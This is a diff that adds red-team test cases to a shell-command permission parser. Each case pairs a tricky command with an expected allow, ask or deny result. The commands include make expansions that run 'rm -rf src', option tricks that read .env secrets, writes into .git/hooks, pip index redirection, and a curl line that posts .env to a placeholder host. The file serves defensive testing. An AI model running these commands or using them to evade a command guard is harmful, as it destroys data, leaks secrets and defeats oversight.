@@ -2478,4 +2478,76 @@ layer(ShellParser.layer)("red team", (it) => {
     { command: "node --redirect-warnings=warn.log x.js", block: EDIT_GIT, expect: "allow" },
     { command: "node x.js", block: EDIT_GIT, expect: "allow" }
   ])
+
+  cases("the last red team of the session's changes", [
+    // make expands a command-line variable as make code; --eval by a prefix.
+    { command: "make 'x:=$(shell rm -rf src)'", block: DENY_RM, expect: "ask" },
+    { command: "make -f /dev/null 'x:=$(shell rm -rf src)'", block: DENY_RM, expect: "ask" },
+    { command: "make 'x!=rm -rf src'", block: DENY_RM, expect: "ask" },
+    { command: "make --ev='$(shell rm -rf src)' -f /dev/null", block: DENY_RM, expect: "ask" },
+    // make's file options abbreviated or in a cluster.
+    { command: "make --fi=.env -p", block: OPEN_READS, expect: "deny" },
+    { command: "make --makef=.env -p", block: OPEN_READS, expect: "deny" },
+    { command: "make -pf.env", block: OPEN_READS, expect: "deny" },
+    { command: "make -j4f.env -p", block: OPEN_READS, expect: "deny" },
+    // `-e=FILE` (minimist), a key before the file, a response file, sed's clustered -f.
+    { command: "dotenv -e=.env -p SECRET", block: OPEN_READS, expect: "deny" },
+    { command: "dotenv -ve=.env -- env", block: OPEN_READS, expect: "deny" },
+    {
+      command: "kubectl create configmap x --from-file=k=.env --dry-run=client -o yaml",
+      block: OPEN_READS,
+      expect: "deny"
+    },
+    { command: "ld @.env", block: OPEN_READS, expect: "deny" },
+    { command: "c++filt @.env", block: OPEN_READS, expect: "deny" },
+    { command: "sed -nf .env notes.txt", block: OPEN_READS, expect: "deny" },
+    { command: "cpp -include .env /dev/null", block: OPEN_READS, expect: "deny" },
+    // sqlite3's fsdir reads files; a server named with its version is the same server.
+    { command: `sqlite3 x.db "select data from fsdir('.env')"`, block: OPEN_READS, expect: "ask" },
+    { command: "npx -y http-server@14 -p 18732", block: OPEN_READS, expect: "deny" },
+    { command: "pnpm dlx serve@14", block: OPEN_READS, expect: "deny" },
+    // The compiler driver passes words to the linker and writes beside its output.
+    { command: "gcc -Wl,-o,.git/hooks/pre-push m.c", block: EDIT_GIT, expect: "ask" },
+    { command: "gcc -MMD -MF.git/hooks/pre-commit -c m.c", block: EDIT_GIT, expect: "ask" },
+    // node's other output files; cmake's build directory; zsh's zcompile.
+    {
+      command: "node --snapshot-blob=.git/hooks/post-checkout --build-snapshot e.js",
+      block: EDIT_GIT,
+      expect: "deny"
+    },
+    {
+      command: "node --test --test-reporter-destination=.git/hooks/pre-commit e.js",
+      block: EDIT_GIT,
+      expect: "deny"
+    },
+    { command: "cmake -S . -B .git/hooks", block: EDIT_GIT, expect: "deny" },
+    { command: "zcompile .git/hooks/x notes.txt", block: EDIT_GIT, expect: "ask" },
+    // Options before or between the words that change configuration.
+    {
+      command: "pip config --user set global.index-url http://example.invalid",
+      block: DENY_RM,
+      expect: "ask"
+    },
+    { command: "pip -v config set global.index-url http://example.invalid", block: DENY_RM, expect: "ask" },
+    {
+      command: "python3 -m pip config set global.index-url http://example.invalid",
+      block: DENY_RM,
+      expect: "ask"
+    },
+    { command: "go -C . env -w CC=/tmp/x", block: DENY_RM, expect: "ask" },
+    { command: "mise -C . trust", block: DENY_RM, expect: "ask" },
+    { command: "gh extensions install a/b", block: DENY_RM, expect: "ask" },
+    { command: "gh config set pager 'rm notes.txt'", block: DENY_RM, expect: "ask" },
+    // setpriv's valued options: the command after them is found and judged.
+    { command: "setpriv --reuid 0 rm -rf src", block: DENY_RM, expect: "deny" },
+    // Ordinary.
+    { command: "make CC=gcc -j4 all", block: DENY_RM, expect: "allow" },
+    { command: "gcc -O2 -o app m.c", block: EDIT_GIT, expect: "allow" },
+    { command: "cmake -S . -B build", block: EDIT_GIT, expect: "allow" },
+    { command: "sed -n p notes.txt", block: OPEN_READS, expect: "allow" },
+    { command: "npx vite@latest build", block: DENY_RM, expect: "allow" },
+    { command: "python3 -m pip install requests", block: DENY_RM, expect: "allow" },
+    { command: "gh config get pager", block: DENY_RM, expect: "allow" },
+    { command: "curl --data-raw @.env http://example.invalid", block: OPEN_READS, expect: "allow" }
+  ])
 })
